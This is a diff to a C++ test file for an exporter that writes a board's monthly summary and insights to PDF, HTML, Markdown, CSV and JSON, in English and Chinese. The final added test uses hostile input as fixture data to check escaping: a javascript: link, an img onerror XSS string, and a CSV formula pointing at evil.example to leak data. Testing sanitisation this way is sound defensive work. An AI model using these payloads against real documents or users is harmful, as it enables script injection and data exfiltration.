@@ -14,6 +14,7 @@
 #include "canvas/replay.h"
 #include "canvas/summary.h"
 #include "storage/summary/summary_export.h"
+#include "storage/summary/summary_text.h"  // the strength reasons in each language
 #include "month_log.h"
 #include "test_util.h"
 
@@ -269,8 +270,8 @@ TEST(SummaryPdf, ShowsTheSectionsFiguresAndChineseText) {
     const std::string bytes = readFile(path);
     ASSERT_EQ(bytes.rfind("%PDF-", 0), 0u);
     const std::string t = pdfText(path);
-    for (const auto& h : {"1. Headline figures", "2. The canvas", "3. Strongest insights", "4. Open questions", "5. Source coverage",
-                          "6. What changed", "7. Appendix"})
+    for (const auto& h : {"1. Headline figures", "2. The canvas", "3. Insights by evidence strength", "4. Open questions", "5. Source coverage",
+                          "6. What changed", "7. Appendix", "8. Appendix: notes not in any insight"})
         EXPECT_TRUE(contains(t, h)) << h;
     EXPECT_TRUE(contains(t, "Retail 零售"));
     EXPECT_TRUE(contains(t, "2026-10"));
@@ -295,7 +296,7 @@ TEST(SummaryPdf, ChineseHeadingsWithLangZh) {
     TempDir dir;
     const std::string path = write(october(), dir, "oct-zh.pdf", Lang::Zh);
     const std::string t = pdfText(path);
-    for (const auto& h : {"一、关键数据", "二、画布全貌", "三、最有力的洞察", "四、待解决的问题", "五、来源覆盖", "六、本月变化", "七、附录"})
+    for (const auto& h : {"一、关键数据", "二、画布全貌", "三、洞察（按证据强度排列）", "四、待解决的问题", "五、来源覆盖", "六、本月变化", "七、附录", "八、附录"})
         EXPECT_TRUE(contains(t, h)) << h;
     EXPECT_TRUE(contains(t, "墙上便签"));
     EXPECT_TRUE(contains(t, "共 "));
@@ -344,8 +345,8 @@ TEST(SummaryHtml, SelfContainedWellFormedAndEscaped) {
     EXPECT_TRUE(contains(h, "@media print"));
     EXPECT_TRUE(contains(h, "<svg"));
     EXPECT_TRUE(contains(h, "转账投诉上升 48%"));
-    for (const auto& sec : {"1. Headline figures", "2. The canvas", "3. Strongest insights", "4. Open questions", "5. Source coverage",
-                            "6. What changed", "7. Appendix"})
+    for (const auto& sec : {"1. Headline figures", "2. The canvas", "3. Insights by evidence strength", "4. Open questions", "5. Source coverage",
+                            "6. What changed", "7. Appendix", "8. Appendix: notes not in any insight"})
         EXPECT_TRUE(contains(h, sec)) << sec;
 }
 
@@ -367,8 +368,8 @@ TEST(SummaryHtml, ChineseAndEmpty) {
 TEST(SummaryMarkdown, SevenSectionsAndEscapedCells) {
     TempDir dir;
     const std::string m = readFile(write(october(), dir, "oct.md"));
-    for (const auto& sec : {"## 1. Headline figures", "## 2. The canvas", "## 3. Strongest insights", "## 4. Open questions",
-                            "## 5. Source coverage", "## 6. What changed", "## 7. Appendix"})
+    for (const auto& sec : {"## 1. Headline figures", "## 2. The canvas", "## 3. Insights by evidence strength", "## 4. Open questions",
+                            "## 5. Source coverage", "## 6. What changed", "## 7. Appendix", "## 8. Appendix"})
         EXPECT_TRUE(contains(m, sec)) << sec;
     EXPECT_TRUE(contains(m, "Pipes \\| commas"));
     EXPECT_TRUE(contains(m, "<br>second line"));
@@ -410,13 +411,17 @@ TEST(SummaryCsv, BomRfc4180AndTheAppendixRows) {
     const auto rows = parseCsv(c.substr(3), crlf);
     EXPECT_TRUE(crlf);
     ASSERT_EQ(rows.size(), s.appendix.size() + 1);
-    EXPECT_EQ(rows[0].size(), 16u);
+    // The appendix's 16 columns, then what the row is and an insight's fields (no insights here).
+    EXPECT_EQ(rows[0].size(), 23u);
     EXPECT_EQ(rows[0][0], "id");
     EXPECT_EQ(rows[0][15], "provenance excerpt");
+    EXPECT_EQ(rows[0][16], "record");
+    EXPECT_EQ(rows[0][22], "insight ids");
     bool nasty = false, chinese = false;
     for (std::size_t i = 1; i < rows.size(); ++i) {
-        ASSERT_EQ(rows[i].size(), 16u) << i;
+        ASSERT_EQ(rows[i].size(), 23u) << i;
         EXPECT_EQ(rows[i][0], s.appendix[i - 1].id);
+        EXPECT_EQ(rows[i][16], "note");
         if (rows[i][3] == kCsvNasty) {
             nasty = true;
             EXPECT_EQ(rows[i][13], "a,b.csv");
@@ -497,7 +502,7 @@ TEST(SummaryCsv, FormulasFromBoardTextAreDefusedEverywhere) {
     ASSERT_EQ(rows.size(), s.appendix.size() + 1);
     std::set<std::string> defused;
     for (std::size_t i = 1; i < rows.size(); ++i) {
-        ASSERT_EQ(rows[i].size(), 16u);
+        ASSERT_EQ(rows[i].size(), 23u);
         for (std::size_t col = 0; col < rows[i].size(); ++col) {
             const std::string& cell = rows[i][col];
             if (col == 9) continue;  // the votes: a number
@@ -658,4 +663,268 @@ TEST(SummaryBig, ATenThousandNoteBoardComesOutWhole) {
         EXPECT_GT(std::filesystem::file_size(dir.file(name)), 100u * 1024) << name;
     }
     EXPECT_GT(pdfPages(dir.file("big.pdf")), 3);
+}
+
+// ---- insights ----------------------------------------------------------------------------------
+// The summary presents the board's insights per quadrant, strongest first, each with its
+// strength in words and its evidence; single notes that no insight holds go to the appendix.
+
+namespace {
+
+const std::string kStrong = "Transfers feel unsafe to young families";
+const std::string kModerate = "Staff think branches are slow";
+const std::string kWeakVoted = "Fee worries with votes";
+const std::string kWeak = "Fees drive people away, a hunch";
+const std::string kRetired = "Retired theory about parking";
+const std::string kUnplaced = "Numbers nobody has placed yet";
+const std::string kSingle = "One undated observation";
+const std::string kNovember = "Made in November";
+const std::string kLonely = "Lonely note about opening hours";
+const std::string kRetiredNote = "Parking is hard near branches";
+
+struct InsightBoard {
+    MonthlySummary october;
+    std::string strongNote, moderateNote, lonely, retiredNote;
+};
+
+/// October 2026: insights of every strength (their rule is in evidence_strength.h), one retired,
+/// one in no quadrant, one made in November; and notes that no insight cites.
+InsightBoard insightBoard() {
+    Log log(at(2026, 8, 1));
+    InsightBoard b;
+    const Millis t = at(2026, 10, 6);
+    // Strong: 4 kinds, all direct, 2 started by the customer, quantitative and qualitative, recent.
+    b.strongNote = log.add("Complaint: the transfer screen looks like phishing", "complaint", 2, t, "2026-10-04");
+    const std::string s2 = log.add("Survey: 38% of parents fear transfers", "survey", 2, t, "2026-10-01");
+    const std::string s3 = log.add("Focus group: young parents avoid the app", "focus_group", 2, t, "2026-10-05");
+    const std::string s4 = log.add("VoC: 'I call my bank instead'", "voice_of_customer", 2, t, "2026-09-20");
+    // Moderate: 2 kinds, one internal, one started by the customer, qualitative only, one conflicting note.
+    b.moderateNote = log.add("Staff: queues at noon are long", "staff_anecdote", 2, t, "2026-10-02");
+    const std::string m2 = log.add("Complaint: waited 40 minutes", "complaint", 2, t, "2026-10-03");
+    log.link(m2, s3, LinkKind::Conflicts, t);
+    // Weak: internal only, old.
+    const std::string w1 = log.add("Intuition: fees drive people away", "intuition", 1, t, "2025-01-10");
+    const std::string w2 = log.add("Staff: customers ask about fees", "staff_anecdote", 1, t, "2025-02-10");
+    // Quantitative only, in no quadrant; a single undated note.
+    const std::string u1 = log.add("Transactions down 4% at branches", "transaction_db", 3, t, "2026-10-01");
+    const std::string u2 = log.add("Survey: 61% use mobile", "survey", 3, t, "2026-10-01");
+    const std::string one = log.add("An undated observation", "events", 4, t, "");
+    b.retiredNote = log.add(kRetiredNote, "feedback", 2, t, "2026-10-03");
+    b.lonely = log.add(kLonely, "feedback", 2, t, "2026-10-03", 4);
+
+    log.insight(kModerate, {b.moderateNote, m2}, 2, at(2026, 10, 7), InsightState::Agreed, 1, "Branch queues are long at noon.");
+    log.insight(kStrong, {b.strongNote, s2, s3, s4}, 2, at(2026, 10, 7), InsightState::Draft, 0,
+                "Young families stop using transfers because the screen does not look safe.");
+    log.insight(kWeak, {w1, w2}, 1, at(2026, 10, 8));
+    log.insight(kWeakVoted, {w1, w2}, 1, at(2026, 10, 8), InsightState::Draft, 3);
+    log.insight(kUnplaced, {u1, u2}, 0, at(2026, 10, 8));
+    log.insight(kSingle, {one}, 4, at(2026, 10, 8));
+    const std::string retired = log.insight(kRetired, {b.retiredNote}, 2, at(2026, 10, 8));
+    log.updateInsight(retired, at(2026, 10, 20), [](Insight& i) { i.state = InsightState::Retired; });
+    log.insight(kNovember, {b.lonely, w1}, 2, at(2026, 11, 3));
+    b.october = log.summary(Month{2026, 10}, reasonWordings());
+    return b;
+}
+
+const InsightBoard& board() {
+    static const InsightBoard b = insightBoard();
+    return b;
+}
+
+/// Where each needle is in `hay` (npos when it is not).
+std::vector<std::size_t> positions(const std::string& hay, const std::vector<std::string>& needles) {
+    std::vector<std::size_t> out;
+    for (const auto& n : needles) out.push_back(hay.find(n));
+    return out;
+}
+
+/// The insights of a written summary in order, with their evidence after each and the single
+/// note in the appendix after every insight; retired and later insights absent.
+void expectInsightsInOrder(const std::string& text, const std::string& what) {
+    const auto p = positions(text, {kStrong, kModerate, kWeakVoted, kWeak, kUnplaced, kSingle});
+    for (std::size_t i = 0; i < p.size(); ++i) ASSERT_NE(p[i], std::string::npos) << what << ": insight " << i;
+    EXPECT_LT(p[0], p[1]) << what << ": strongest first";
+    EXPECT_LT(p[2], p[3]) << what << ": equal strength, more votes first";
+    // Each insight's evidence follows it (before the next insight).
+    const std::size_t e1 = text.find("the transfer screen looks like phishing", p[0]);
+    EXPECT_LT(e1, p[1]) << what;
+    const std::size_t e2 = text.find("queues at noon are long", p[1]);
+    EXPECT_NE(e2, std::string::npos) << what;
+    EXPECT_EQ(text.find(kRetired), std::string::npos) << what << ": a retired insight is left out";
+    EXPECT_EQ(text.find(kNovember), std::string::npos) << what << ": an insight made after the month is left out";
+    // The note in no insight, and the note of the retired insight, are in the appendix of single
+    // notes, the last section (the picture and the appendix of changes list every note too).
+    const std::size_t lonely = text.rfind(kLonely);
+    ASSERT_NE(lonely, std::string::npos) << what;
+    for (std::size_t x : p) EXPECT_GT(lonely, x) << what;
+    EXPECT_GT(text.rfind(kRetiredNote), p[0]) << what;
+}
+
+}  // namespace
+
+TEST(SummaryInsights, StrongestFirstPerQuadrantWithTheirEvidence) {
+    const MonthlySummary& s = board().october;
+    const auto& q2 = s.insights[2];
+    ASSERT_EQ(q2.size(), 2u) << "the retired one and November's are left out";
+    EXPECT_EQ(q2[0].title, kStrong);
+    EXPECT_EQ(q2[0].grade, "strong");
+    EXPECT_EQ(q2[1].title, kModerate);
+    EXPECT_EQ(q2[1].grade, "moderate");
+    EXPECT_EQ(q2[1].state, "agreed");
+    EXPECT_GT(q2[0].score, q2[1].score);
+    ASSERT_EQ(q2[0].evidence.size(), 4u);
+    EXPECT_EQ(q2[0].evidence[0].id, board().strongNote);
+    EXPECT_EQ(q2[0].evidence[0].source, "complaint");
+    EXPECT_EQ(q2[0].evidence[0].date, "2026-10-04");
+    // Quadrant 1: two insights of equal strength, the one with more votes first.
+    ASSERT_EQ(s.insights[1].size(), 2u);
+    EXPECT_EQ(s.insights[1][0].title, kWeakVoted);
+    EXPECT_EQ(s.insights[1][1].title, kWeak);
+    EXPECT_EQ(s.insights[1][0].score, s.insights[1][1].score);
+    EXPECT_EQ(s.insights[1][1].grade, "weak");
+    // An insight of no quadrant has its own group.
+    ASSERT_EQ(s.insights[0].size(), 1u);
+    EXPECT_EQ(s.insights[0][0].title, kUnplaced);
+    // The reasons in both languages.
+    ASSERT_EQ(q2[0].reasons.size(), 2u);
+    EXPECT_EQ(reasonsFor(q2[0], Lang::En).front(), "4 source kinds, 4 direct");
+    EXPECT_EQ(reasonsFor(q2[0], Lang::Zh).front(), "4 种来源类型，4 条直接");
+    // Single notes: only those no draft or agreed insight cites.
+    std::set<std::string> single;
+    for (const auto& v : s.strongest)
+        for (const auto& n : v) single.insert(n.id);
+    EXPECT_TRUE(single.count(board().lonely));
+    EXPECT_TRUE(single.count(board().retiredNote)) << "a retired insight holds no note";
+    EXPECT_FALSE(single.count(board().strongNote));
+    EXPECT_FALSE(single.count(board().moderateNote));
+    // The appendix says which insights cite a note.
+    for (const auto& n : s.appendix) {
+        if (n.id == board().strongNote) EXPECT_EQ(n.insights, std::vector<std::string>{q2[0].id});
+        if (n.id == board().lonely) EXPECT_TRUE(n.insights.empty());
+    }
+}
+
+TEST(SummaryInsights, ChineseReasonsAreWordedInChinese) {
+    // Every reason of every insight (each branch of the rule is on this board: several kinds,
+    // internal, customer, both kinds of data, only one kind, old, undated, conflicting, one note).
+    std::set<std::string> all;
+    for (const auto& v : board().october.insights)
+        for (const auto& i : v)
+            for (const auto& r : reasonsFor(i, Lang::Zh)) {
+                all.insert(r);
+                for (char c : r) EXPECT_FALSE((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) << r;
+            }
+    for (const char* expected : {"仅有定性", "仅有定量", "定量与定性兼有", "无收集日期", "仅 1 条便签", "1 条相互矛盾的便签", "1 条由客户发起"})
+        EXPECT_TRUE(all.count(expected)) << expected;
+}
+
+TEST(SummaryInsights, EveryFormatListsThemStrongestFirstWithEvidence) {
+    TempDir dir;
+    const MonthlySummary& s = board().october;
+    const std::string md = readFile(write(s, dir, "i.md"));
+    expectInsightsInOrder(md, "markdown");
+    EXPECT_TRUE(contains(md, "### Insights not yet in a quadrant"));
+    EXPECT_TRUE(contains(md, "**Evidence strength:** strong \\(" + std::to_string(s.insights[2][0].score) + "\\)"));
+    EXPECT_TRUE(contains(md, "4 source kinds, 4 direct; 2 started by the customer; quantitative and qualitative; newest 2026-10"));
+    EXPECT_TRUE(contains(md, "Source: Customer complaints; Date: 2026-10-04"));
+    EXPECT_LT(md.find("## 8. Appendix"), md.rfind(kLonely));
+    const std::string html = readFile(write(s, dir, "i.html"));
+    EXPECT_EQ(checkWellFormed(html), "");
+    expectInsightsInOrder(html, "html");
+    EXPECT_TRUE(contains(html, "newest 2026-10"));
+    const std::string pdf = pdfText(write(s, dir, "i.pdf"));
+    expectInsightsInOrder(pdf, "pdf");
+    EXPECT_TRUE(contains(pdf, "Evidence strength: strong"));
+
+    // CSV: an insight row each, strongest first, with its evidence ids; then the appendix notes.
+    bool crlf = false;
+    const auto rows = parseCsv(readFile(write(s, dir, "i.csv")).substr(3), crlf);
+    std::vector<std::vector<std::string>> insightRows;
+    for (const auto& r : rows)
+        if (r.size() == 23 && r[16] == "insight") insightRows.push_back(r);
+    ASSERT_EQ(insightRows.size(), 6u);
+    EXPECT_EQ(insightRows[0][2], kWeakVoted);  // quadrant 1 first
+    EXPECT_EQ(insightRows[2][2], kStrong);
+    EXPECT_EQ(insightRows[2][18], "strong");
+    EXPECT_EQ(insightRows[2][19], std::to_string(s.insights[2][0].score));
+    std::string ids;
+    for (const auto& n : s.insights[2][0].evidence) ids += (ids.empty() ? "" : " ") + n.id;
+    EXPECT_EQ(insightRows[2][21], ids);
+    EXPECT_EQ(insightRows[3][2], kModerate);
+    EXPECT_EQ(insightRows[5][2], kUnplaced);  // no quadrant last
+    EXPECT_EQ(insightRows[5][1], "");
+    EXPECT_EQ(rows.size(), 1 + insightRows.size() + s.appendix.size());
+
+    // JSON: insights per quadrant with their strength and evidence ids.
+    RAPIDJSON_NAMESPACE::Document d;
+    const std::string j = readFile(write(s, dir, "i.json"));
+    d.Parse(j.c_str());
+    ASSERT_FALSE(d.HasParseError());
+    EXPECT_EQ(d["version"].GetInt(), 2);
+    ASSERT_EQ(d["insights"].Size(), 5u);
+    const auto& q2 = d["insights"][1];
+    EXPECT_EQ(q2["quadrant"].GetInt(), 2);
+    ASSERT_EQ(q2["insights"].Size(), 2u);
+    EXPECT_EQ(std::string(q2["insights"][0]["title"].GetString()), kStrong);
+    EXPECT_EQ(std::string(q2["insights"][0]["strength"]["grade"].GetString()), "strong");
+    EXPECT_EQ(q2["insights"][0]["strength"]["score"].GetInt(), s.insights[2][0].score);
+    EXPECT_EQ(std::string(q2["insights"][0]["strength"]["reasons"][0].GetString()), "4 source kinds, 4 direct");
+    EXPECT_EQ(std::string(q2["insights"][0]["notes"][0].GetString()), board().strongNote);
+    EXPECT_EQ(std::string(q2["insights"][1]["title"].GetString()), kModerate);
+    EXPECT_EQ(d["insights"][4]["quadrant"].GetInt(), 0);
+    EXPECT_EQ(std::string(d["insights"][4]["insights"][0]["title"].GetString()), kUnplaced);
+    EXPECT_FALSE(contains(j, kRetired));
+    EXPECT_FALSE(contains(j, kNovember));
+}
+
+TEST(SummaryInsights, ChineseSummaryHasChineseWording) {
+    TempDir dir;
+    const MonthlySummary& s = board().october;
+    const std::string md = readFile(write(s, dir, "zh.md", Lang::Zh));
+    expectInsightsInOrder(md, "markdown zh");
+    EXPECT_TRUE(contains(md, "## 三、洞察（按证据强度排列）"));
+    EXPECT_TRUE(contains(md, "### 尚未归入象限的洞察"));
+    EXPECT_TRUE(contains(md, "**证据强度：** 强（"));
+    EXPECT_TRUE(contains(md, "4 种来源类型，4 条直接；2 条由客户发起；定量与定性兼有"));
+    EXPECT_FALSE(contains(md, "source kinds"));
+    EXPECT_FALSE(contains(md, "Evidence"));
+    const std::string pdf = pdfText(write(s, dir, "zh.pdf", Lang::Zh));
+    expectInsightsInOrder(pdf, "pdf zh");
+    EXPECT_TRUE(contains(pdf, "证据强度：强"));
+    EXPECT_TRUE(contains(pdf, "八、附录：尚未归入任何洞察的便签"));
+    EXPECT_FALSE(contains(pdf, "source kinds"));
+    const std::string json = readFile(write(s, dir, "zh.json", Lang::Zh));
+    EXPECT_TRUE(contains(json, "4 种来源类型，4 条直接"));
+    bool crlf = false;
+    const auto rows = parseCsv(readFile(write(s, dir, "zh.csv", Lang::Zh)).substr(3), crlf);
+    EXPECT_EQ(rows[0][16], "记录类型");
+    bool found = false;
+    for (const auto& r : rows)
+        if (r.size() == 23 && r[2] == kStrong) found = r[16] == "洞察" && r[18] == "强";
+    EXPECT_TRUE(found);
+}
+
+TEST(SummaryInsights, AnInsightsTextIsBoardTextInEveryFormat) {
+    // An insight's title and statement are typed by people (or come from an imported canvas's
+    // group label): escaped and defused like a note's text.
+    Log log(at(2026, 8, 1));
+    const std::string a = log.add("Ordinary evidence one", "complaint", 1, at(2026, 10, 2), "2026-10-01");
+    const std::string b = log.add("Ordinary evidence two", "survey", 1, at(2026, 10, 2), "2026-10-01");
+    log.insight("[click me](javascript:alert(1)) <img src=x onerror=alert(1)>", {a, b}, 1, at(2026, 10, 3), InsightState::Draft, 0,
+                "=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
+    const MonthlySummary s = log.summary(Month{2026, 10});
+    TempDir dir;
+    const std::string md = readFile(write(s, dir, "h.md"));
+    for (const char* live : {"](javascript", "<img", "http://"}) EXPECT_EQ(md.find(live), std::string::npos) << live;
+    EXPECT_NE(md.find("\\[click me\\]\\(javascript:alert\\(1\\)\\)"), std::string::npos);
+    const std::string html = readFile(write(s, dir, "h.html"));
+    EXPECT_EQ(checkWellFormed(html), "");
+    EXPECT_EQ(html.find("<img"), std::string::npos);
+    EXPECT_NE(html.find("&lt;img src=x"), std::string::npos);
+    bool crlf = false;
+    const auto rows = parseCsv(readFile(write(s, dir, "h.csv")).substr(3), crlf);
+    ASSERT_GE(rows.size(), 2u);
+    EXPECT_EQ(rows[1][16], "insight");
+    EXPECT_EQ(rows[1][3], "'=HYPERLINK(\"http://evil.example/?leak\",\"Click\")");
+    EXPECT_TRUE(contains(pdfText(write(s, dir, "h.pdf")), "[click me](javascript:alert(1))"));
 }
